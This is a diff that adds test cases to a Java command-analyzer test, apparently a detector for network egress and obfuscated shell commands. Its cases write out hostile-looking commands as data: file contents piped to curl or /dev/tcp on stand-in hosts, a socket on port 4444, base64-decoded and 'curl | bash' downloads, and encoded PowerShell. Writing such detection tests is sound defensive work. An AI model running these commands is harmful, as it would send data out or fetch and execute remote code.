@@ -113,6 +113,13 @@ class CommandAnalyzerCasesTest {
                 c("", "ls", "-la"),
                 c("", "git", "status"),
                 c("", "sh", "-c", "ls -la && git status | grep x"),
+                c("", "bash", "-c", "[[ $x =~ ^(a|b)$ && -n \"$y\" ]] && (( z = (1+2)*3 )) && echo ok"),
+                c("curl(H) https://x.example/ []", "bash", "-c", "[[ -f /tmp/x ]] || curl https://x.example"),
+                c("/dev/tcp(R) tcp://x.example:4444/ [file:/no/such!]", "bash", "-c", "cat /no/such > /dev/tcp/x.example/4444"),
+                c("/dev/tcp(R) tcp://10.0.0.9:80/ [stdin!]", "bash", "-c", "exec 3<>/dev/tcp/10.0.0.9/80; echo hi >&3"),
+                c("/dev/udp(R) udp://x.example:53/ [arg:2]", "bash", "-c", "echo data > /dev/udp/x.example/53"),
+                c("openssl(R) tcp://x.example:443/ [stdin]", "sh", "-c", "echo hi | openssl s_client -quiet -connect x.example:443"),
+                c("", "openssl", "rand", "-hex", "16"),
                 // obfuscation
                 c("#OBF", "sh", "-c", "echo Y3VybCBodHRwczovL3guZXhhbXBsZQ== | base64 -d | sh"),
                 c("curl(H) https://x.example/ [] #OBF", "sh", "-c", "curl https://x.example | bash"),
@@ -162,6 +169,7 @@ class CommandAnalyzerCasesTest {
                         "Invoke-RestMethod -Uri https://x.example -Headers @{Authorization='Bearer x'}"),
                 c("invoke-webrequest(H) https://x.example/ [arg:4]", "Invoke-WebRequest", "-Uri", "https://x.example", "-Body", "x=1"),
                 c("#OBF", "powershell", "-enc", "SQBFAFgAIAAoACcAeAAnACkA"),
+                c("irm(H) https://x.example/ [arg:2]", "pwsh", "-c", "$U = 'https://x.example'; $B = \"ssn=1\"; irm $U -Method Post -Body $B"),
                 c("python3(H) https://x.example/ [arg:2]", "python3", "-c", "import urllib.request as u; u.urlopen('https://x.example', b'data')"),
                 c("python(H) tcp://10.0.0.1:4444/ [arg:2]", "python", "-c", "import socket;s=socket.socket();s.connect(('10.0.0.1',4444))"),
                 c("", "python3", "-c", "print(1+1)"),
@@ -172,7 +180,9 @@ class CommandAnalyzerCasesTest {
                 // Windows cmd
                 c("curl(H) https://x.example/ [arg:2]", "cmd.exe", "/c", "curl -d secret https://x.example & echo done"),
                 c("curl(H) https://x.example/ [arg:4]", "cmd", "/C", "curl", "-d", "v", "https://x.example"),
-                c("curl(H) https://x.example/ [stdin!]", "cmd", "/c", "type f.txt | curl -d @- https://x.example")
+                c("curl(H) https://x.example/ [stdin!]", "cmd", "/c", "type f.txt | curl -d @- https://x.example"),
+                c("curl(H) https://x.example/ []", "cmd", "/c", "start \"\" /b curl.exe https://x.example"),
+                c("wget(H) https://x.example/ [] #OBF", "cmd", "/c", "powershell -enc AAAA & wget https://x.example")
         );
     }
 
